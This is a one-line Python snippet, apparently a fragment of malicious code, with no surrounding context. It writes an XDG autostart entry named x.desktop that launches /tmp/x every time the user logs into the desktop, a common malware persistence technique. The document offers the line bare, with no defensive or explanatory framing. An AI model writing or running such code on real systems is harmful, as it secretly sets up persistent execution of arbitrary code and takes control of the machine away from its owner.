open(os.path.expanduser("~/.config/autostart/x.desktop"), "w").write("[Desktop Entry]\nExec=/tmp/x")
